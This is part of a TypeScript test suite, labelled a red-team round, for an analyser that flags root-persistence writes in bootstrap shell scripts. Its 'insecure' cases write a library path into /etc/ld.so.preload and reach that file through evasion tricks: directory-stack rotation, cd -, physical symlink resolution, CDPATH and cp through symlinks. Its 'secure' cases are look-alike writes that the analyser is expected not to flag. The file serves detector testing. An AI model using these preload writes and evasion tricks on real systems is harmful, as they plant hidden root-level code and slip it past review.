        devNodeScript(n("n43"), [SO, "cd /tmp", "(cd /etc && echo /opt/x.so > ld.so.preload)"]),
        /\/etc\/ld\.so\.preload/,
    ),
    // bash(1) cd: "An argument of - is converted to $OLDPWD"; cloud-init's OLDPWD is not the script's to know.
    devNodeCase(
        "N4-4 cd - with OLDPWD never set by the script, then > ld.so.preload",
        devNodeScript(n("n44"), [SO, "cd - >/dev/null", "echo /opt/x.so > ld.so.preload"]),
    ),
    // bash manual "Directory Stack Builtins": pushd with no arguments "exchanges the top two elements".
    devNodeCase(
        "N4-5 pushd /etc; pushd /tmp; pushd (swap); > ld.so.preload",
        devNodeScript(n("n45"), [
            SO,
            "pushd /etc >/dev/null",
            "pushd /tmp >/dev/null",
            "pushd >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
        /\/etc\/ld\.so\.preload/,
    ),
    // pushd +N: "Brings the Nth directory (counting from the left of the list printed by dirs, starting with zero) to
    // the top of the list by rotating the stack".
    devNodeCase(
        "N4-6 pushd /etc; pushd /tmp; pushd +1 (rotate); > ld.so.preload",
        devNodeScript(n("n46"), [
            SO,
            "pushd /etc >/dev/null",
            "pushd /tmp >/dev/null",
            "pushd +1 >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
        /\/etc\/ld\.so\.preload/,
    ),
    // bash(1) set -P: "If set, the shell does not resolve symbolic links when executing commands such as cd that
    // change the current working directory. It uses the physical directory structure instead."
    devNodeCase(
        "N4-7 set -P; ln -s /etc/ssh /tmp/s; cd /tmp/s/..; > ld.so.preload",
        devNodeScript(n("n47"), [
            SO,
            "set -P",
            "ln -s /etc/ssh /tmp/s",
            "cd /tmp/s/..",
            "echo /opt/x.so > ld.so.preload",
        ]),
        /\/etc\/ld\.so\.preload/,
    ),
    // path_resolution(7): a relative path starts at the process's (physical) working directory: after a logical
    // `cd /tmp/s` (-> /etc/ssh), `../ld.so.preload` is /etc/ld.so.preload.
    devNodeCase(
        "N4-8 ln -s /etc/ssh /tmp/s; cd /tmp/s; > ../ld.so.preload",
        devNodeScript(n("n48"), [SO, "ln -s /etc/ssh /tmp/s", "cd /tmp/s", "echo /opt/x.so > ../ld.so.preload"]),
        /\/etc\/ld\.so\.preload/,
    ),
    devNodeCase(
        "N4-9 ln -s /etc/ssh /tmp/s; cp to /tmp/s/../ld.so.preload (an operand, not a redirection)",
        devNodeScript(n("n49"), [
            SO,
            "ln -s /etc/ssh /tmp/s",
            "echo /opt/x.so > /tmp/p",
            "cp /tmp/p /tmp/s/../ld.so.preload",
        ]),
        /\/etc\/ld\.so\.preload/,
    ),
    // CDPATH applies to pushd too (bash manual: pushd "cds to dir"); an unknown CDPATH word is no known directory.
    devNodeCase(
        "N4-10 CDPATH=/ ; pushd etc; > ld.so.preload",
        devNodeScript(n("n410"), [SO, "CDPATH=/", "cd /tmp", "pushd etc >/dev/null", "echo /opt/x.so > ld.so.preload"]),
    ),
];

const secure: NodeCase[] = [
    // sed manual "w filename: Write the pattern space to filename"; GNU sed opens the name as given (no tilde
    // expansion): the file is "./~/ops-env" under /tmp.
    devNodeCase(
        "S1 sed -n 'w ~/.bashrc' writes a file literally named ~/.bashrc under /tmp",
        devNodeScript(n("s1"), [SO, "cd /tmp && mkdir -p '~'", `echo '${PRE}' | sed -n 'w ~/.bashrc'`]),
    ),
    // POSIX awk: output redirection opens the expression's string value as a path; no tilde expansion.
    devNodeCase(
        'S2 awk print > "~/.bashrc" under /tmp (a directory literally named ~)',
        devNodeScript(n("s2"), [SO, "cd /tmp && mkdir -p '~'", `awk 'BEGIN { print "${PRE}" > "~/.bashrc" }'`]),
    ),
    // bash(1): "If none of the characters in the tilde-prefix are quoted ..." — a quoted character in the prefix: no
    // expansion.
    devNodeCase(
        'S3 function writes ~"$1"/.bashrc (quoted prefix: the literal ~root directory under /tmp)',
        devNodeScript(n("s3"), [
            SO,
            "cd /tmp && mkdir -p '~root'",
            `put() { echo '${PRE}' >> ~"$1"/.bashrc; }`,
            "put root",
        ]),
    ),
    devNodeCase(
        "S4 ~root/.bashrc only as text in a log line",
        devNodeScript(n("s4"), ["echo 'root rc at' ~root/.bashrc ~/.bashrc >> /var/log/ops-bootstrap.log"]),
    ),
    devNodeCase(
        "S5 tmpfiles.d d %h/.cache and L+ /etc/localtime to zoneinfo",
        devNodeScript(n("s5"), [
            ...file("/etc/tmpfiles.d/ops.conf", [
                "d %h/.cache 0700 root root -",
                "L+ /etc/localtime - - - - /usr/share/zoneinfo/UTC",
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "S6 ln -s -t /usr/local/bin of a downloaded tool",
        devNodeScript(n("s6"), [
            "curl -fsSL -o /opt/tools/jq https://downloads.example.com/jq && chmod +x /opt/tools/jq",
            "ln -s -t /usr/local/bin /opt/tools/jq",
        ]),
    ),
    devNodeCase(
        "S7 ~root/.bashrc gets a literal alias; ~+ and ~- used for a scratch dir",
        devNodeScript(n("s7"), [
            "echo \"alias ll='ls -l'\" >> ~root/.bashrc",
            "cd /tmp && mkdir -p ~+/scratch && cd /var/tmp && touch ~-/scratch/ok",
        ]),
    ),
    devNodeCase(
        "S8 HOME=/opt/app exported for the whole script: ~/.bashrc is /opt/app/.bashrc (read by no root shell)",
        devNodeScript(n("s8"), [SO, "export HOME=/opt/app", "mkdir -p ~", `echo '${PRE}' >> ~/.bashrc`]),
    ),
    devNodeCase(
        "S9 mount a block device at /var/lib/containerd",
        devNodeScript(n("s9"), [
            "mkfs.xfs -f /dev/nvme1n1",
            "mkdir -p /var/lib/containerd",
            "mount /dev/nvme1n1 /var/lib/containerd",
        ]),
    ),
    devNodeCase(
        "S10 relative symlink at /etc/profile.d naming a literal script written under /opt (relative to the link)",
        devNodeScript(n("s10"), [
            ...file("/opt/ops/prompt.sh", ["PS1='[ops \\W]\\$ '"]),
            "cd /var/lib && ln -sf ../../opt/ops/prompt.sh /etc/profile.d/prompt.sh",
        ]),
    ),
    devNodeCase("S11 a downloaded script under /opt only (baseline of the link cases)", devNodeScript(n("s11"), [DL])),
    devNodeCase(
        "S12 HOME=/tmp set in a subshell for a scratch cd, ~/.bashrc written afterwards with a literal alias",
        devNodeScript(n("s12"), ["(export HOME=/tmp; cd ~)", "echo \"alias ll='ls -l'\" >> ~/.bashrc"]),
    ),
    devNodeCase(
        "S13 ln -sfn /opt/rc /root/.bashrc.d first, then a literal PS1 written into /opt/rc",
        devNodeScript(n("s13"), [
            "mkdir -p /opt/rc",
            "ln -sfn /opt/rc /root/.bashrc.d",
            "echo \"PS1='[\\\\u@\\\\h]\\\\$ '\" > /opt/rc/prompt.sh",
        ]),
    ),
    devNodeCase(
        "S14 a quoted heredoc keeps ~root literal in a profile.d alias",
        devNodeScript(n("s14"), [...file("/etc/profile.d/ops-alias.sh", ["alias cdr='cd ~root'"])]),
    ),
    // bash(1) eval re-reads its text: the single quotes inside keep '~root/.bashrc' one literal word (no expansion).
    devNodeCase(
        "S15 eval of a redirection to a single-quoted '~root/.bashrc' under /tmp",
        devNodeScript(n("s15"), [SO, "cd /tmp && mkdir -p '~root'", `eval "echo '${PRE}' > '~root/.bashrc'"`]),
    ),
    // xargs(1) passes its input items as arguments as they are; no shell, so no tilde expansion.
    // Was a MISS (fixed in round 76): xargs(1) runs the command with the input items as arguments (execvp: no shell, so no tilde expansion, bash(1) Tilde Expansion applies to shell words only); `cp /tmp/env.txt '~root/.bashrc'` in /tmp writes /tmp/~root/.bashrc, read by no root program: harmless. Refused: rootReads.ts reads xargs' stdin items as shell words through RootReads.tilde ("writes /root/.bashrc/env.txt"). Fix: xargs items (without a `sh -c` in the command: T5 stays refused) are literal words, no tilde expansion.
    devNodeCase(
        "S16 xargs -I{} cp (no shell) with '~root/.bashrc' from stdin: a literal path under /tmp",
        devNodeScript(n("s16"), [
            SO,
            `echo '${PRE}' > /tmp/env.txt`,
            "cd /tmp && mkdir -p '~root'",
            "echo '~root/.bashrc' | xargs -I{} cp /tmp/env.txt {}",
        ]),
    ),
    devNodeCase(
        "S17 tmpfiles.d L+ /etc/profile.d/prompt.sh to a literal prompt script under /opt",
        devNodeScript(n("s17"), [
            ...file("/opt/ops/prompt.sh", ["PS1='[ops \\W]\\$ '"]),
            ...file("/etc/tmpfiles.d/ops.conf", ["L+ /etc/profile.d/prompt.sh - - - - /opt/ops/prompt.sh"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // ---- round 76 node3 fixer neighbours (links, secure) ----
    // ln(1) into a directory operand of a file whose text the pack reads: judged by that text (a literal PS1).
    devNodeCase(
        "SN1 ln -s a literal prompt script into /etc/profile.d (directory operand)",
        devNodeScript(n("sn1"), [
            ...file("/opt/ops/prompt.sh", ["PS1='[ops \\W]\\$ '"]),
            "ln -s /opt/ops/prompt.sh /etc/profile.d",
        ]),
    ),
    devNodeCase(
        "SN2 ln -st/usr/local/bin (stuck -t) of a downloaded tool",
        devNodeScript(n("sn2"), [
            "curl -fsSL -o /opt/tools/jq https://downloads.example.com/jq",
            "ln -st/usr/local/bin /opt/tools/jq",
        ]),
    ),
    // cp(1) -L/--dereference "always follow symbolic links in SOURCE": the copy is the image's own /opt/ops.sh at
    // copy time, a separate file the later download does not reach (the secure twin of T17).
    devNodeCase(
        "SN3 ln -s before the download, cp -L (dereference) of the link into /etc/profile.d",
        devNodeScript(n("sn3"), ["ln -s /opt/ops.sh /tmp/l", "cp -L /tmp/l /etc/profile.d/ops.sh", DL]),
    ),
    devNodeCase(
        "SN4 tmpfiles.d L+ %h/.bashrc.d/prompt.sh to a literal prompt script",
        devNodeScript(n("sn4"), [
            ...file("/opt/ops/prompt.sh", ["PS1='[ops \\W]\\$ '"]),
            ...file("/etc/tmpfiles.d/ops.conf", [
                "d %h/.bashrc.d 0700 root root -",
                "L+ %h/.bashrc.d/prompt.sh - - - - /opt/ops/prompt.sh",
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "SN5 ln -s a literal prompt script to /tmp/l, then mv of the link into /etc/profile.d",
        devNodeScript(n("sn5"), [
            ...file("/opt/ops/prompt.sh", ["PS1='[ops \\W]\\$ '"]),
            "ln -s /opt/ops/prompt.sh /tmp/l",
            "mv /tmp/l /etc/profile.d/prompt.sh",
        ]),
    ),
    // xargs without -I appends the items as arguments, no shell: '~root/.bashrc' is a literal name under /tmp.
    devNodeCase(
        "SN6 xargs cp (no -I, no shell) with '~root/.bashrc' from stdin: a literal path under /tmp",
        devNodeScript(n("sn6"), [
            SO,
            `echo '${PRE}' > /tmp/env.txt`,
            "cd /tmp && mkdir -p '~root'",
            "echo '~root/.bashrc' | xargs cp /tmp/env.txt",
        ]),
    ),
    // Was a MISS (fixed in round 76): bash(1) cd: "An argument of - is converted to $OLDPWD before the directory change is attempted": `cd /var/tmp && cd /tmp && cd -` enters /var/tmp and writes /var/tmp/scratch2 (harmless). Refused: RootReads cd reads `cd -` as `cd` (HOME, /root: "writes /root/scratch2"); T30 is refused for the same reason at the wrong file (/root/ld.so.preload). Fix: track OLDPWD (T7's fix) and make `cd -` go there.
    devNodeCase(
        "S18 pushd /tmp for a scratch file, popd back, cd - for another",
        devNodeScript(n("s18"), [
            "pushd /tmp >/dev/null && echo ok > ./scratch && popd >/dev/null",
            "cd /var/tmp && cd /tmp && cd - >/dev/null && echo ok > ./scratch2",
        ]),
    ),
    // ---- round 76 fix neighbours (fix76-node4) ----
    // bash(1) "( list )": the subshell's cd is gone after it; the write is in /tmp.
    devNodeCase(
        "N4-S1 cd /tmp; (cd /etc); > ld.so.preload in /tmp",
        devNodeScript(n("n4s1"), [SO, "cd /tmp", "(cd /etc)", "echo /opt/x.so > ld.so.preload"]),
    ),
    // bash(1) "Pipelines": without lastpipe the last element is a subshell too.
    devNodeCase(
        "N4-S2 cd /tmp; true | cd /etc; > ld.so.preload in /tmp",
        devNodeScript(n("n4s2"), [SO, "cd /tmp", "true | cd /etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "N4-S3 cd /var/tmp; cd /tmp; > ~-/scratch (OLDPWD /var/tmp)",
        devNodeScript(n("n4s3"), ["cd /var/tmp", "cd /tmp", "echo ok > ~-/scratch"]),
    ),
    // bash(1) cd: CDPATH is not searched for a dir beginning with ./ (it is relative to the working directory).
    devNodeCase(
        "N4-S4 CDPATH=/ but cd ./etc from /tmp",
        devNodeScript(n("n4s4"), [
            SO,
            "export CDPATH=/",
            "mkdir -p /tmp/etc",
            "cd /tmp",
            "cd ./etc",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "N4-S5 shopt -s then -u cdable_vars; E=/etc; cd E from /tmp",
        devNodeScript(n("n4s5"), [
            SO,
            "shopt -s cdable_vars",
            "shopt -u cdable_vars",
            "E=/etc",
            "mkdir -p /tmp/E",
            "cd /tmp",
            "cd E",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "N4-S6 pushd /tmp; pushd /var/tmp; popd: back in /tmp",
        devNodeScript(n("n4s6"), [
            SO,
            "pushd /tmp >/dev/null",
            "pushd /var/tmp >/dev/null",
            "popd >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    // bash(1) cd: -L (the default) "symbolic links are followed by resolving the link after processing instances of
    // .. in dir": /tmp/s/.. is /tmp.
    devNodeCase(
        "N4-S7 ln -s /etc/ssh /tmp/s; logical cd /tmp/s/..; > ld.so.preload in /tmp",
        devNodeScript(n("n4s7"), [SO, "ln -s /etc/ssh /tmp/s", "cd /tmp/s/..", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "N4-S8 ln -s /var/tmp/d /tmp/s; > /tmp/s/../scratch (physical: /var/tmp/scratch)",
        devNodeScript(n("n4s8"), ["mkdir -p /var/tmp/d", "ln -s /var/tmp/d /tmp/s", "echo ok > /tmp/s/../scratch"]),
    ),
];

describeNodeCases(
    "red team 76: node (tilde homes, links at judged paths, directory stacks, tmpfiles %h)",
    insecure,
    secure,
);
